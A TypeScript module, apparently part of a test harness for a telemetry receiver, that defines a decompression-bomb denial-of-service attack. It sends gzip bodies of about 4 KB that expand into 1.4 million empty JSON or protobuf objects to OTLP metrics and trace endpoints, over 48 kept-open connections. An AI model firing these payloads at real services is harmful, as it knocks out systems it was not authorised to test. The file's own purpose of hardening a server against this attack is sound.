import { gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { keepOpen, post } from "../sockets.ts";

const OBJECTS = 1_390_000;

/** A body of a few kilobytes that becomes 4 MB of empty messages. */
function bomb(path: string, type: string, body: Buffer): Buffer {
  const gzipped = gzipSync(body, { level: 9 });
  const headers = `content-type: ${type}\r\ncontent-encoding: gzip\r\ncontent-length: ${gzipped.length}`;
  return Buffer.concat([Buffer.from(post(path, headers)), gzipped]);
}

const json = (name: string): Buffer => Buffer.from(`{"${name}":[{}${",{}".repeat(OBJECTS)}]}`);
// Field 1, of length 0.
const protobuf = Buffer.from("0a00".repeat(OBJECTS), "hex");

export const emptyObjects: Attack = {
  name: "empty-objects",
  about: "48 connections, each with ten requests of 4 KB of gzip that become 1.4 million empty objects",
  maxTurnMs: 20,
  begin: (port) => {
    const bombs = [
      bomb("/v1/metrics", "application/json", json("resourceMetrics")),
      bomb("/v1/traces", "application/json", json("resourceSpans")),
      bomb("/v1/metrics", "application/x-protobuf", protobuf),
      bomb("/v1/traces", "application/x-protobuf", protobuf),
    ];
    for (const first of bombs) {
      keepOpen(port, 12, { first: Buffer.concat(Array<Buffer>(10).fill(first)), reads: true });
    }
  },
};
